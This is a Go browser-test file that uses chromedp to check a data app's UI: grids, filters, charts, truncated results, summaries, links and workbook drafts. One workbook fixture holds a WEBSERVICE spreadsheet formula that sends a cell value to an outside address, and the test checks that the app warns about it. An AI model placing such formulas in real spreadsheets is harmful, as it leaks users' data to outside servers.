package cli

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/agnes-data/da/internal/testing/testneed"
)

// gridText is the rows that are shown, a line for each.
const gridText = `[...document.querySelectorAll(".grid .grid-row")].map(r => [...r.querySelectorAll("[role=gridcell]")].map(c => c.innerText).join(" ")).join("\n")`

// runs puts a statement into the editor and runs it.
func (b *tab) runs(sql string) {
	b.t.Helper()
	b.draft(sql)
	b.opensSQL()
	b.press("Run")
}

// ticks sets a mark that stands before a text.
func (b *tab) ticks(label string) {
	b.t.Helper()
	b.until(fmt.Sprintf(`(() => { const l = [...document.querySelectorAll("label")].find(l => l.innerText.trim() === %q); l?.click(); return l; })()`, label))
}

// TestOneResultAfterAnotherInABrowser holds that order, filter and chart of a
// result end with it, and that a result outlives a look elsewhere.
func TestOneResultAfterAnotherInABrowser(t *testing.T) {
	t.Parallel()
	testneed.Program(t, "chromium")
	p := newPlace(t)
	address, code, _ := openPage(t, p)
	b := openTab(t, address+"/")
	b.visit("/#code=" + code)
	b.sees("airports")
	b.runs("SELECT * FROM (VALUES ('b', 1, 5), ('a', 2, 7), ('a', 3, -9)) v(name, n, k), (SELECT iata FROM airports LIMIT 1) ORDER BY n")
	b.until(`document.querySelector(".grid button")`)
	js[bool](b, `[...document.querySelectorAll(".grid button")].find(c => c.innerText.startsWith("name")).click(), true`)
	b.until(gridText + `.startsWith("a 2")`)
	// What is ticked takes the place of what was, and shows as ticked.
	tick := func(value string, was bool) {
		b.until(fmt.Sprintf(`(() => { const i = document.querySelector(".ticks label[title=%s] input"); if (i?.checked !== %t) return false; i.click(); return true; })()`, value, was))
	}
	for i, first := range []bool{true, false} {
		b.until(`(() => { const m = document.querySelector("[aria-label='Column name'].more"); m?.click(); return m; })()`)
		tick("b", !first)
		if !first {
			tick("a", false)
		}
		if over := js[float64](b, `document.querySelector(".menu").getBoundingClientRect().bottom - innerHeight`); over > 0 {
			t.Errorf("the menu ends %v below the window", over)
		}
		b.press("Only these")
		b.sees([]string{"1 of 3 rows", "2 of 3 rows"}[i])
	}
	b.press("name = a ×")
	// Rows of one name are not added up unasked.
	b.press("Chart")
	b.until(`document.querySelector(".canvas canvas")`)
	b.until(`document.querySelector(".canvas").getAttribute("aria-label") === "bar chart of mean of k by name"`)
	b.check("chart-of-means")

	b.ticks("Powers of ten")
	b.ticks("Highest first")
	b.until(`document.querySelector(".canvas canvas")`)
	js[bool](b, `(() => { const up = document.querySelectorAll(".chart select")[2]; up.value = "distinct"; up.dispatchEvent(new Event("change", {bubbles: true})); return true; })()`)
	b.until(`document.querySelector(".canvas").getAttribute("aria-label") === "bar chart of distinct values of k by name"`)
	b.until(`document.querySelector(".canvas canvas")`)
	b.check("chart-distinct")

	// The same page goes on with another statement.
	const next = "SELECT 'z' AS word, 1 AS n FROM airports UNION ALL SELECT 'y', 0 FROM airports ORDER BY n DESC LIMIT 1"
	js[bool](b, fmt.Sprintf(`localStorage.setItem("da.sql", JSON.stringify([{sql: %q}])), location.hash = "#/tables", true`, next))
	b.sees("airports")
	js[bool](b, `location.hash = "#/sql", true`)
	b.until(`document.querySelector(".editor")?.shadowRoot?.querySelector(".cm-content")`)
	b.press("Statements")
	b.press(next)
	b.sees("Below is what another statement gave") // the rows are there still, looked at as before
	b.until(`document.querySelector(".canvas canvas")`)
	b.press("Rows")
	b.until(gridText + `.includes("b 1")`)
	b.press("Run")
	b.until(gridText + `.startsWith("z 1")`)
	if text := js[string](b, "document.body.innerText"); strings.Contains(text, "another statement") || strings.Contains(text, "TypeError") {
		t.Errorf("after the second statement:\n%s", text)
	}
	b.press("Chart")
	b.until(`document.querySelector(".canvas canvas")`)
	for _, fault := range js[[]string](b, "window.faults") {
		t.Error(fault)
	}

	// A mistake is shown at its place.
	b.runs("SELECT iata FROM airports WHERE AND 1")
	b.until(`document.querySelector(".pointer mark")?.innerText`)
	b.check("sql-mistake")
}

// TestUnknownNamesHereInABrowser holds that the page says what a name is missing
// for, and the way on.
func TestUnknownNamesHereInABrowser(t *testing.T) {
	t.Parallel()
	testneed.Program(t, "chromium")
	p := newPlace(t)
	p.ok("fetch", "airports", "--as", "mine")
	address, code, _ := openPage(t, p)
	b := openTab(t, address+"/")
	b.visit("/#code=" + code)
	b.sees("airports")
	b.visit("/#/sql?at=here&q=SELECT+count(*)+AS+n+FROM+airports") // the place is in the address
	b.until(`document.querySelector(".editor")?.shadowRoot?.querySelector(".cm-content") && document.querySelector("[aria-label='Where it runs']")`)
	b.press("Run")
	b.until(`document.querySelector(".notice.bad")`)
	if text := js[string](b, `document.querySelector(".notice.bad").innerText`); !strings.Contains(text, "airports") || strings.Contains(text, "Internal error") {
		t.Errorf("an unknown name: %s", text)
	}
	b.check("here-unknown")
	js[bool](b, `document.querySelector(".notice.bad button").click(), true`)
	b.sees("1 row")
	b.until(`location.hash.includes("at=fetch")`)
}

// TestCutResultsInABrowser holds that a result that a limit emptied is not
// called one that nothing matched.
func TestCutResultsInABrowser(t *testing.T) {
	t.Parallel()
	testneed.Program(t, "chromium")
	p := newPlace(t)
	instance := filepath.Join(p.dir, "cut.yaml")
	if err := os.WriteFile(filepath.Join(p.dir, "wide.csv"), []byte("id,name\n1,"+strings.Repeat("x", 200)+"\n2,"+strings.Repeat("y", 200)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	text := fmt.Sprintf("server: { state_dir: %q }\napi: { scan: { max_result_bytes: 100 } }\nsources:\n  files: { type: lake, root: %q }\ntables:\n  - { id: wide, source: files, path: wide.csv, public: true }\n",
		filepath.Join(p.dir, "cut-state"), p.dir)
	if err := os.WriteFile(instance, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	address, code, _ := openPage(t, p.with("DA_INSTANCE="+instance))
	b := openTab(t, address+"/")
	b.visit("/#code=" + code)
	b.sees("wide")
	b.runs("SELECT * FROM wide")
	b.until(`document.querySelector(".notice, .empty")`)
	if text := js[string](b, "document.body.innerText"); strings.Contains(text, "nothing matched") {
		t.Errorf("a result that was cut:\n%s", text)
	}
	b.check("cut")

	// What came before the cut is shown as a part: of it there is no chart, and no
	// file that holds all rows.
	var long strings.Builder
	long.WriteString("id,name\n")
	for i := range 20_000 {
		fmt.Fprintf(&long, "%d,%s\n", i, strings.Repeat("x", 40))
	}
	if err := os.WriteFile(filepath.Join(p.dir, "wide.csv"), []byte(long.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(instance, []byte(strings.Replace(text, "max_result_bytes: 100 ", "max_result_bytes: 50000 ", 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	address, code, _ = openPage(t, p.with("DA_INSTANCE="+instance))
	b = openTab(t, address+"/")
	b.visit("/#code=" + code)
	b.sees("wide")
	for _, look := range []func(){
		func() { b.runs("SELECT * FROM wide") },
		func() { b.visit("/#/tables/wide/part"); b.press("Show rows") },
	} {
		look()
		b.sees("(a part: the result was cut)")
		b.until(`document.querySelector(".result .notice.warn")?.innerText.includes("api.scan.max_result_bytes stopped the result")`)
		b.check("cut-part")
		b.press("Chart")
		b.sees("No chart is drawn of a result that was cut")
		if js[bool](b, `[...document.querySelectorAll("button")].some(b => b.textContent === "XLSX")`) {
			t.Error("a cut result is offered as a file of all rows")
		}
	}
	// Statistics are of all rows: where these do not come, statements at the source make a profile.
	b.visit("/#/tables/wide/statistics")
	b.press("Profile")
	b.until(`[...document.querySelectorAll(".summary .range [title=largest]")].some(c => c.innerText === "19999")`)
	b.sees("20,000 rows that you may read, as of")
	b.until(`[...document.querySelectorAll(".summary")].some(c => c.innerText.includes("key"))`)
	b.check("statistics-profile")
	// A click on a range leads to its rows.
	js[bool](b, `document.querySelector(".bins button").click(), true`)
	b.until(`document.querySelector("textarea")?.value.startsWith("id >= 0 AND id < ")`)
}

// TestDraftOfAWorkbookInABrowser holds that people see cells, formulas and what
// they do, and no bytes.
func TestDraftOfAWorkbookInABrowser(t *testing.T) {
	t.Parallel()
	testneed.Program(t, "chromium")
	p := newPlace(t)
	p.ok("files", "edit", "book.xlsx", "--create", "--operations", `[{"op":"set_range","values":[["item","price"],["a",1.5]]}]`)
	p.ok("files", "edit", "book.xlsx", "--draft", "d", "--operations",
		`[{"op":"set_cells","cells":[{"cell":"B2","value":100},{"cell":"C2","formula":"WEBSERVICE(\"http://192.0.2.1/?\"&B2)"}]},{"op":"set_format","range":"A1:B1","format":{"bold":true}}]`)
	latin := filepath.Join(p.dir, "latin.csv")
	for _, version := range []struct {
		text string
		more []string
	}{{"name;x\nM\xfcller;1\n", nil}, {"name;x\nM\xfcller;2\n", []string{"--draft", "d"}}} {
		if err := os.WriteFile(latin, []byte(version.text), 0o600); err != nil {
			t.Fatal(err)
		}
		p.ok(append([]string{"files", "put", latin}, version.more...)...)
	}
	address, code, _ := openPage(t, p)
	b := openTab(t, address+"/")
	b.visit("/#code=" + code)
	b.sees("airports")
	b.visit("/#/files")
	for _, text := range []string{"Sheet1!B2", "1.5", `=WEBSERVICE("http://192.0.2.1/?"&B2)`, "may send a request to a server", "format of Sheet1!A1", "bold", "Müller;2"} {
		b.sees(text)
	}
	if text := js[string](b, "document.body.innerText"); strings.Contains(text, "PK\x03") || strings.Contains(text, "�") {
		t.Errorf("bytes are shown:\n%s", text)
	}
	b.check("files-workbook")
	b.press("Apply")
	b.until(`!document.querySelector(".draft")`)
}

// TestValuesInABrowser holds that a grid shows values as people read them, and
// each exact and whole on demand.
func TestValuesInABrowser(t *testing.T) {
	t.Parallel()
	testneed.Program(t, "chromium")
	p := newPlace(t)
	address, code, _ := openPage(t, p)
	b := openTab(t, address+"/")
	b.do(chromedp.EmulateViewport(1900, 900))
	b.visit("/#code=" + code)
	b.sees("airports")
	b.runs(`SELECT 11.080645161290322::DOUBLE AS f, 1234567 AS n, 1234567 AS station_id, -0.00001234567::DOUBLE AS tiny, TIMESTAMP '2024-01-02 03:04:05' AS at, 9007199254740993 AS big, repeat('long ', 200) AS words, 1 AS z FROM airports LIMIT 1`)
	b.until(gridText + `.startsWith("11.080645 1,234,567 1234567 -0.00001234567 2024-01-02 03:04:05 9,007,199,254,740,993 long ")`)
	open := func(at int) {
		t.Helper()
		js[bool](b, fmt.Sprintf(`document.querySelectorAll(".grid-row [role=gridcell]")[%d].dispatchEvent(new MouseEvent("dblclick", {bubbles: true})), true`, at))
	}
	open(0)
	b.until(`document.querySelector(".value .paper")?.innerText === "11.080645161290322"`)
	if got := b.copies("Copy"); got != "11.080645161290322" {
		t.Errorf("copied: %q", got)
	}
	b.press("→")
	b.until(`document.querySelector(".value .paper")?.innerText === "1234567"`)
	open(6)
	b.sees("1,000 characters")
	b.check("value")
	b.do(chromedp.EmulateViewport(1900, 900))
	// A cell at the edge is as wide as what of it is in view; its header is whole.
	const header = `document.querySelector("[aria-label='Column words']").closest("[role=columnheader]").offsetWidth`
	width := js[int](b, header)
	js[bool](b, `document.querySelector("[aria-label='Column words']").click(), true`)
	b.press("Wider")
	b.until(fmt.Sprintf("%s === %d", header, width+80))
	b.press("Close")
	b.until(`!document.querySelector(".value") && document.activeElement.className === "grid"`)
}

// TestSummariesInABrowser holds that each column of a result says what it holds, and that a
// click shows the rows of a value or a range.
func TestSummariesInABrowser(t *testing.T) {
	t.Parallel()
	testneed.Program(t, "chromium")
	p := newPlace(t)
	address, code, _ := openPage(t, p)
	b := openTab(t, address+"/")
	b.visit("/#code=" + code)
	b.sees("airports")
	b.runs("SELECT origin, delay FROM flights")
	b.sees("600 rows")
	b.press("Summary")
	b.until(`document.querySelectorAll(".summary").length === 2`)
	b.check("summary")
	said := js[int](b, `(() => { const bar = [...document.querySelectorAll(".bins button:enabled")][1]; const n = Number(bar.getAttribute("aria-label").match(/: ([\d,]+) rows/)[1].replace(",", "")); bar.click(); return n; })()`)
	b.sees(fmt.Sprintf("%d of 600 rows", said))
	b.press("Rows")
	b.until(fmt.Sprintf(`document.querySelector(".grid").getAttribute("aria-rowcount") === "%d"`, said+1))
	b.check("summary-rows")
	js[bool](b, `document.querySelector("[aria-label^='Take away']").click(), true`)
	b.until(`document.querySelector(".grid").getAttribute("aria-rowcount") === "601"`)

	// Numbers across are put into ranges, and what is in them is counted.
	b.press("Chart")
	b.until(`document.querySelectorAll(".chart select")[1]`)
	js[bool](b, `(() => { const across = document.querySelectorAll(".chart select")[1]; across.value = "1"; across.dispatchEvent(new Event("change", {bubbles: true})); return true; })()`)
	b.ticks("Ranges")
	b.until(`document.querySelector(".canvas").getAttribute("aria-label") === "bar chart of count of rows by delay"`)
	b.until(`document.querySelectorAll(".canvas canvas").length === 1`)
	b.check("chart-ranges")

	// Columns are hidden and put first; what is copied is what is seen.
	b.press("Summary")
	js[bool](b, `document.querySelector("[aria-label='Put delay first']").click(), true`)
	b.press("Rows")
	b.until(`document.querySelector(".grid [role=columnheader]").innerText === "delay"`)
	b.press("Summary")
	js[bool](b, `document.querySelector("[aria-label='Hide origin']").click(), true`)
	b.sees("1 of 2 columns")
	if got := b.copies("Copy rows"); !strings.HasPrefix(got, "delay\n") {
		t.Errorf("copied: %.40q", got)
	}
}

// TestLinksShowWhatWasLookedAtInABrowser holds that order, conditions and view are in the address
// of a statement and of a part of a table, and that it shows the rows where these cost nothing.
func TestLinksShowWhatWasLookedAtInABrowser(t *testing.T) {
	t.Parallel()
	testneed.Program(t, "chromium")
	p := newPlace(t)
	address, code, _ := openPage(t, p)
	b := openTab(t, address+"/")
	b.visit("/#code=" + code)
	b.sees("airports")
	for _, look := range []func(){
		func() { b.runs("SELECT origin, delay FROM flights") },
		func() { b.visit("/#/tables/flights/part?select=origin,delay"); b.press("Show rows") },
	} {
		look()
		b.until(`document.querySelector(".grid-row")`)
		b.column("delay", "Sort down")
		js[bool](b, `(() => { const f = document.querySelector(".result input[type=search]"); f.value = "SFO"; return f.dispatchEvent(new Event("input", {bubbles: true})); })()`)
		b.until(`location.hash.includes("SFO") && location.hash.includes("down")`)
		rows, said := js[string](b, gridText), js[string](b, `document.querySelector(".result [role=status]").innerText.split(" · ")[0]`)
		if !strings.Contains(said, " of 600 rows") || !strings.HasPrefix(rows, "SFO ") {
			t.Errorf("%s:\n%s", said, rows)
		}
		// For somebody else the address shows the same.
		hash := js[string](b, `location.hash`)
		js[bool](b, `Object.keys(localStorage).filter(k => k.startsWith("da.sheet")).forEach(k => localStorage.removeItem(k)), sessionStorage.clear(), true`)
		b.visit("/" + hash)
		b.sees(said)
		b.until(gridText + fmt.Sprintf(` === %q`, rows))
		b.check("linked")
	}
	// Another statement begins without the conditions of the one before.
	b.runs("SELECT origin FROM flights")
	b.sees("600 rows")
	if text := js[string](b, "document.body.innerText"); strings.Contains(text, " of 600 rows") {
		t.Errorf("conditions of another statement:\n%s", text)
	}
}
